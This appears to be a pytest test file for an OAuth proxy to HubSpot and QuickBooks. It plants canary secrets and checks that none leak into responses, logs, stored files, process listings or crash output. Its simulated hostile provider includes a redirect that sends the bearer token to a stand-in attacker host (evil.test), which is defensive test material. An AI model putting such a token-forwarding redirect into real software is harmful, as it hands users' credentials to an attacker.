"""S-10, S-72, S-78: secrets planted in every place where one can stand are found in no answer, log, file or process listing."""

import asyncio
import hashlib
import json
import logging
import os
import re
import subprocess
import sys
from pathlib import Path

from aiohttp import web

SERVE = Path(__file__).resolve().parents[3] / "serve.py"
OPERATION = "3f2504e0-4f89-11d3-9a0c-0305e82c3301"
CREATE = "crm/objects/2026-03/contacts"


class Witness:
    """Notes all that leaves the proxy towards the page, and every secret of the flow."""

    def __init__(self, world):
        self.world, self.seen, self.secrets = world, [], {"hub-secret", "qb-secret"}
        self.request = world.request
        world.request = self.witnessed

    async def witnessed(self, method, target, headers=None, data=None):
        reply = await self.request(method, target, headers, data)
        # The binding cookie and the profile cookie are meant for this browser, and so is the state in the consent address.
        allowed = {"Set-Cookie"} if target.endswith("/start") or "/api/databases/" in target else set()
        kept = {name: value for name, value in reply.headers.items() if name not in allowed}
        body = b"" if target.endswith("/start") else reply.body
        self.seen.append(json.dumps(kept).encode() + body)
        return reply

    async def connected(self, provider):
        """Connects, keeping the code, the state, the verifier and the cookie as secrets."""
        url, cookie = await self.world.start(f"/auth/{provider}/start")
        query = self.world.provider.consent(url)
        await self.world.callback(f"/oauth/{provider}/callback", query, cookie)
        self.secrets |= {cookie, *re.findall(r"(?:code|state)=([^&]+)", query), self.world.provider.token_requests[-1]["code_verifier"]}
        return (await self.world.connections())[-1]["id"]

    def all_secrets(self):
        provider = self.world.provider
        return self.secrets | provider.access_tokens | provider.refresh_tokens


async def everything_that_can_happen(world, witness):
    """Good calls, refused ones, failing providers, exceptions in the middle, refreshes and disconnecting."""
    hubspot, company = await witness.connected("hubspot"), await witness.connected("intuit")
    world.provider.answer = leaking
    headers = {"Cookie": "sid=canary-cookie", "Authorization": "Bearer canary-authorization", "Referer": "http://x/?canary-referrer"}
    calls = [("GET", "/api/status", None),
             ("GET", f"/api/hubspot/{hubspot}/crm/owners/2026-03?email=canary-query%40example.com", None),
             ("POST", f"/api/hubspot/{hubspot}/{CREATE}", {"properties": {"email": "canary-body"}}),
             ("GET", f"/api/quickbooks/{company}/query?query=select%20canary-statement%20from%20Item", None),
             ("GET", f"/api/hubspot/{hubspot}/canary-path", None), ("GET", "/canary-page", None),
             ("POST", "/auth/disconnect", {"connection": "canary-connection"}), ("POST", "/auth/hubspot/start", "canary-json"),
             ("PUT", "/api/databases/canary-database", {"epoch": "canary-epoch"}), ("GET", "/api/journal?after=canary-after", None)]
    for mode in ("good", "cut", "redirect", "broken", "expired"):
        prepare(world, mode)
        for method, target, body in calls:
            extra = {"X_Op_Id": OPERATION[:-1] + str(len(mode))} if target.endswith(CREATE) else {}
            await world.call(method, target, body, **headers, **extra)
    await world.request("GET", "/oauth/hubspot/callback?code=canary-code&state=" + "x" * 43, {"Sec-Fetch-Mode": "navigate"})
    await world.call("POST", "/auth/disconnect", {"connection": hubspot})


async def leaking(request):
    """A provider that sends back what it was given, in a place that the page may not see."""
    token = request.headers["Authorization"]
    return web.json_response({"ok": True}, headers={"Set-Cookie": token, "X-Debug": token, "Link": token})


async def cut(request):
    request.transport.close()
    return web.Response()


async def redirect(request):
    return web.Response(status=302, headers={"Location": "https://evil.test/?" + request.headers["Authorization"][7:]})


async def broken(request):
    raise RuntimeError(request.headers["Authorization"])


def prepare(world, mode):
    world.provider.answer = {"cut": cut, "redirect": redirect, "broken": broken}.get(mode, leaking)
    if mode == "expired":
        world.now += 4_000
    if mode == "broken":
        def failing(*_):
            raise RuntimeError("canary-exception " + " ".join(world.provider.access_tokens))

        world.parts.organisations[""].tokens.connections = failing
    else:
        vars(world.parts.organisations[""].tokens).pop("connections", None)


async def test_s10_s78_no_secret_leaves_the_proxy_whatever_happens(world, capfd, caplog):
    caplog.set_level(logging.DEBUG)
    witness = Witness(world)
    await everything_that_can_happen(world, witness)
    secrets = witness.all_secrets()
    assert len(secrets) >= 14 and len(witness.seen) > 50
    answers = b"\n".join(witness.seen)
    assert not [secret for secret in secrets if secret.encode() in answers]
    captured = capfd.readouterr()
    logged = world.log.getvalue() + captured.out + captured.err
    assert "forwarded" in logged and not [secret for secret in [*secrets, "canary"] if secret in logged]
    ours = [record for record in caplog.records if record.name.split(".")[0] == "server"]
    assert not ours, "the proxy writes through its own log only"


async def test_s70_s78_no_secret_is_readable_in_the_data_directory(world):
    witness = Witness(world)
    await everything_that_can_happen(world, witness)
    content = b"secret snapshot " * 100
    await world.call("PUT", "/api/backups/4f1c2d3e-0001/1-1", content, Content_Type="application/octet-stream",
                     X_Content_SHA256=hashlib.sha256(content).hexdigest())
    stored = world.everything_stored()
    planted = [*witness.all_secrets(), "canary-body", "canary-cookie", "canary-authorization", "secret snapshot"]
    assert b"hubspot-" in stored and len(stored) > 5_000 and not [secret for secret in planted if secret.encode() in stored]


CONFIGURATION = """
data_directory = "data"
[hubspot]
client_id = "hub"
client_secret = "canary-client-secret-1"
[quickbooks]
client_id = "qb"
client_secret_file = "qb.secret"
environment = "sandbox"
"""


async def test_s05_s72_secrets_are_in_no_process_listing_answer_or_crash(tmp_path):
    (tmp_path / "qb.secret").touch(mode=0o600)
    (tmp_path / "qb.secret").write_text("canary-client-secret-2")
    config = tmp_path / "ledgerbridge.toml"
    config.touch(mode=0o600)
    config.write_text(CONFIGURATION)
    serve = [sys.executable, "-X", "dev", str(SERVE), "--config", str(config)]
    process = subprocess.Popen([*serve, "--port", "0"], text=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               env={"PATH": os.environ["PATH"]})
    ready = json.loads(process.stdout.readline())
    assert set(ready) == {"page", "hubspot", "quickbooks"}, "no address that signs in is written to a file"
    token = subprocess.run([*serve, "--sign-in"], check=True, text=True, capture_output=True).stdout.strip().partition("#")[2]
    listing = Path(f"/proc/{process.pid}/cmdline").read_bytes() + Path(f"/proc/{process.pid}/environ").read_bytes()
    opened = await answer_of(ready["page"], "/auth/session", json.dumps({"token": token}))
    key, cookie = re.search(rb'"key": "([^"]+)"', opened)[1].decode(), re.search(rb"__Host-Http-sid=([^;]+)", opened)[1].decode()
    signed_in, answers = f"X-App-Key: {key}\r\nCookie: __Host-Http-sid={cookie}\r\n", b""
    calls = (("/api/status", None), ("/", None), ("/api/nothing", None), ("/auth/nothing", "{}"), ("/auth/session", '{"token": "x"}'))
    for path, body in calls:
        answers += await answer_of(ready["page"], path, body, signed_in)
    process.send_signal(6)  # SIGABRT: what a crash would print
    output, errors = process.communicate(timeout=60)
    files = b"".join(path.read_bytes() for path in (tmp_path / "data").rglob("*") if path.is_file())
    assert b'"mode"' in answers and process.returncode == -6 and "signed_in" in errors
    for text in (listing, answers, output.encode(), errors.encode(), json.dumps(ready).encode(), files):
        assert not [secret for secret in ("canary", token, key, cookie) if secret.encode() in text]
    assert not list(tmp_path.glob("core*"))


async def answer_of(origin, path, body=None, extra=""):
    host, port = origin.removeprefix("http://").split(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    content = f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n" if body is not None else ""
    writer.write(f"{'GET' if body is None else 'POST'} {path} HTTP/1.1\r\nHost: {host}:{port}\r\nX-App: 1\r\nOrigin: {origin}\r\n"
                 f"Connection: close\r\n{content}{extra}\r\n{body or ''}".encode())
    answer = await reader.read()
    writer.close()
    return answer
